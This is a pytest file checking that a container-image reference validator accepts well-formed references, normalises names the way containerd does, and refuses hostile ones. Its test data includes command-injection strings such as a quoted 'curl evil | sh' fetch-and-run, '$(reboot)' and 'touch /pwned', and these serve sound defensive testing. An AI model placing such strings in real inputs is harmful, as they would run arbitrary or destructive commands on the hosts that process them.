"""Image references are checked against distribution/reference's grammar when the stack is read.

Grammar read from github.com/distribution/reference regexp.go (commit 00a09fa) and the name
normalisation from its normalize.go (`ParseDockerRef`): what containerd and the kubelet accept.
"""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from core import reference
from experiments.kinds.pulling import PullingParams
from infra.spec.errors import format_error

VALID = [
    "debian",
    "debian:12.7-slim",
    "ghcr.io/converged-computing/container-chonks-run1:9-layers-size-1176249324-bytes",
    "us-central1-docker.pkg.dev/p/repo/img:tag",
    "localhost:5000/a/b__c/d-e.f:1",
    "[::1]:5000/x:y",
    "python@sha256:" + "a" * 64,
    "gcr.io/go-containerregistry/gcrane:v0.20.2@sha256:" + "b" * 64,
]
HOSTILE = [
    "ghcr.io/x/y:tag'; curl evil | sh; echo '",
    "ghcr.io/x/$(reboot)",
    "ghcr.io/x/y:tag with space",
    "Upper/Case",
    "ghcr.io/x/y:" + "t" * 129,
    "-leading-dash",
    "ghcr.io/x/y:täg",  # Go's \w is ASCII
    "a/" * 130 + "b",
]


@pytest.mark.parametrize("ref", VALID)
def test_valid_references_pass(ref):
    assert reference.problem(ref) is None


@pytest.mark.parametrize("ref", HOSTILE)
def test_hostile_references_are_refused(ref):
    assert reference.problem(ref) is not None


@pytest.mark.parametrize(("ref", "stored"), [
    ("debian:12.7-slim", "docker.io/library/debian:12.7-slim"),
    ("busybox", "docker.io/library/busybox:latest"),
    ("bitnami/kubectl:1.30", "docker.io/bitnami/kubectl:1.30"),
    ("index.docker.io/library/python:3", "docker.io/library/python:3"),
    ("localhost/x", "localhost/x:latest"),
    ("ghcr.io/a/b@sha256:" + "c" * 64, "ghcr.io/a/b@sha256:" + "c" * 64),
    # Tagged and digested: ParseDockerRef keeps the digest only (what a locked image becomes).
    ("ghcr.io/a/b:1.0@sha256:" + "c" * 64, "ghcr.io/a/b@sha256:" + "c" * 64),
    ("busybox:1.36@sha256:" + "c" * 64, "docker.io/library/busybox@sha256:" + "c" * 64),
])
def test_normalize_is_the_name_containerd_stores(ref, stored):
    assert reference.normalize(ref) == stored


def one_line(params: dict) -> str:
    with pytest.raises(ValidationError) as exc:
        PullingParams.model_validate(params)
    lines = [format_error(e, PullingParams, prefix=("experiment", "params"))
             for e in exc.value.errors(include_url=False)]
    assert len(lines) == 1
    return lines[0]


def test_hostile_repository_is_a_one_line_spec_error():
    """Before: the quote reached a root shell on every node and the plan passed."""
    bad = "ghcr.io/x/y'; touch /pwned; echo '"
    line = one_line({"repository": bad, "layers": [9], "sizes": [1176249324]})
    assert line.startswith("study:experiment.params.repository: ")
    assert "not allowed; does not match the reference grammar; must be a repository" in line
    assert "touch /pwned" in line


def test_hostile_image_is_a_one_line_spec_error():
    line = one_line({"images": ["ok:1", "ghcr.io/x/y:$(reboot)"]})
    assert line.startswith("study:experiment.params.images[1]: ")
    assert "must be an image reference [registry[:port]/]path[:tag][@digest]" in line


def test_check_names_the_key():
    with pytest.raises(ValueError, match=r"^images\.image: 'a b' is not allowed; "):
        reference.check("a b", "images.image")


def test_topology_image_is_checked_too():
    from experiments.kinds.topology import TopologyParams

    with pytest.raises(ValidationError, match="does not match the reference grammar"):
        TopologyParams.model_validate({"image": "ubuntu:noble; reboot"})
    assert TopologyParams.model_validate({"image": "ubuntu:noble"}).image == "ubuntu:noble"
